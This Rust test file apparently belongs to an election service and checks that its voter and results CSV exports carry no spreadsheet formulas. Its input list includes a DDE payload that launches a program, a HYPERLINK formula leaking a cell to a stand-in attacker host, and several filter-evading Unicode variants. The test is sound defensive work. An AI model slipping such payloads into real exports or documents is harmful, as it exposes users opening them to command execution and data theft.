//! Words that a spreadsheet would take for formulas, on their way out as CSV.

use hyper::Request;
use serde_json::json;
use uvote_loadtest::client::whole;

use crate::support::people::Election;
use crate::support::{Organiser, Service};

const FORMULAS: [&str; 24] = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "  =1+1",
    "\u{a0}=1+1",
    "\u{3000}=1+1",
    "\u{ff1d}1+1",
    "\u{ff0b}1+1",
    "\u{ff0d}1+1",
    "\u{ff20}SUM(A1)",
    "\"=1+1",
    "\"=1+1\"",
    "\"\"=1+1",
    "x;=1+1",
    "x;=1+1;y",
    "x; =1+1",
    "x,=1+1",
    "x\",=1+1",
    "\";=1+1;\"",
    "x;\"=1+1\"",
    "x;\u{2003}@SUM(A1)",
];

/// The cells of a sheet as a spreadsheet reads it that separates them by this: a quote counts where a
/// cell begins, and within such a cell two are one.
fn cells(sheet: &str, separator: char) -> Vec<String> {
    let (mut cells, mut cell, mut characters) = (Vec::new(), String::new(), sheet.chars().peekable());
    let (mut quoted, mut begins) = (false, true);
    while let Some(character) = characters.next() {
        match character {
            '"' if begins => quoted = true,
            '"' if quoted && characters.peek() == Some(&'"') => {
                cell.push('"');
                characters.next();
            }
            '"' if quoted => quoted = false,
            _ if !quoted && (character == separator || matches!(character, '\r' | '\n')) => {
                cells.push(std::mem::take(&mut cell));
                begins = true;
                continue;
            }
            _ => cell.push(character),
        }
        begins = false;
    }
    cells.push(cell);
    cells
}

fn is_formula(cell: &str) -> bool {
    cell.starts_with(['\t', '\r'])
        || cell.trim_start().starts_with(['=', '+', '-', '@', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}'])
}

async fn sheet(organiser: &Organiser, election: &Election, path: &str) -> String {
    let request = Request::get(election.path(path)).body(whole("")).unwrap();
    let answer = organiser.client.send(request).await.unwrap();
    assert_eq!(answer.status(), 200);
    String::from_utf8(answer.body().to_vec()).unwrap()
}

/// Expects no formula in a sheet, whatever separates its cells, and that nothing else is changed.
async fn is_harmless(organiser: &Organiser, election: &Election, path: &str) {
    let sheet = sheet(organiser, election, path).await;
    for separator in [',', ';', '\t'] {
        let formula = cells(&sheet, separator).into_iter().find(|cell| is_formula(cell));
        assert_eq!(formula, None, "{path} read with {separator:?}:\n{sheet}");
    }
    let kept: Vec<String> = cells(&sheet, ',').iter().map(|cell| cell.replace('\'', "")).collect();
    for formula in FORMULAS {
        let words = formula.trim().replace('\'', "");
        assert!(kept.iter().any(|cell| cell.trim() == words), "{path} keeps {formula}:\n{sheet}");
    }
}

#[actix_web::test]
async fn no_export_holds_a_formula() {
    let service = Service::start().await;
    let organiser = Organiser::register(&service).await;
    let candidates: Vec<_> = FORMULAS.iter().map(|name| json!({"name": name})).collect();
    let contests: Vec<_> =
        FORMULAS.iter().take(4).map(|title| json!({"title": title, "candidates": candidates})).collect();
    let election = organiser.draft(json!({"title": "=1+1", "contests": contests})).await;
    for (number, name) in FORMULAS.iter().enumerate() {
        let email = format!("{}voter{number}@example.org", ["=", "+", "-", ""][number % 4]);
        let voter = json!({"email": email, "first_name": name, "last_name": name});
        let (status, answer) = organiser.post(&election.path("/voters"), &voter).await;
        assert_eq!(status, 201, "{answer}");
    }
    is_harmless(&organiser, &election, "/voters.csv").await;
    assert_eq!(organiser.post(&election.path("/activate"), &json!({})).await.0, 200);
    organiser.close(&election.id).await;
    is_harmless(&organiser, &election, "/results.csv").await;
}
